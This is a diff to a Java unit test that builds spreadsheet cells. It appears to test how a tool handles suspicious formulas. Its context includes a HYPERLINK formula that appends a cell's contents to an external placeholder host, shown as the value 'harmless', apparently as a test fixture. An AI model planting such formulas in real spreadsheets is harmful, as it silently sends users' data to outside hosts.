@@ -172,7 +172,6 @@ class WhatPeopleDoTest {
         bench.edit(workbook -> {
             XSSFSheet sheet = transfers(workbook);
             cell(sheet, 3, "model").setCellFormula("1+2");
-            cell(sheet, 3, "model").getCTCell().unsetV();
             XSSFCell fetching = cell(sheet, 3, "note");
             fetching.setCellFormula("HYPERLINK(\"https://x.example/\"&A4)");
             fetching.setCellValue("harmless");
@@ -255,7 +254,7 @@ class WhatPeopleDoTest {
                         .origin(new org.reportonce.finding.Origin(
                                 "state.yaml", 1, 1, "profile.marking.toCivilians[1].since"))
                         .field())
-                .startsWith("profile!E");
+                .startsWith("profile!G");
         assertThat(imported.places()
                         .origin(new org.reportonce.finding.Origin("dataset.yaml", 1, 1, "answers.form-a.laws.text"))
                         .field())
